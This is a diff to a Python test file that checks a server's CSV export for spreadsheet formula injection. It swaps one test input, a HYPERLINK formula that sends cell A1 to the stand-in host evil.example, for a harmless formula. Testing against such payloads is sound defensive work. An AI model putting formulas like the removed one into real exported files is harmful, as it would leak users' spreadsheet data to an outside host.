@@ -93,8 +93,8 @@ def test_idle_and_trickling_sockets_do_not_lock_anyone_out(server):
 # ---------------------------------------------------------------- 2. CSV formula injection
 
 
-@pytest.mark.parametrize("q", ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+乡村振兴", "-乡村振兴",
-                               "@SUM(1) 乡村振兴"])
+# A quoted phrase is a hard constraint (query language): the formula's phrase must occur, or nothing is exported.
+@pytest.mark.parametrize("q", ['=HYPERLINK("乡村振兴",A1)', "+乡村振兴", "-乡村振兴", "@SUM(1) 乡村振兴"])
 def test_csv_export_has_no_formula_cells(server, q):
     status, body, _ = get(f"{server}/export.csv?" + urllib.parse.urlencode({"q": q, "all": "1"}))
     assert status == 200
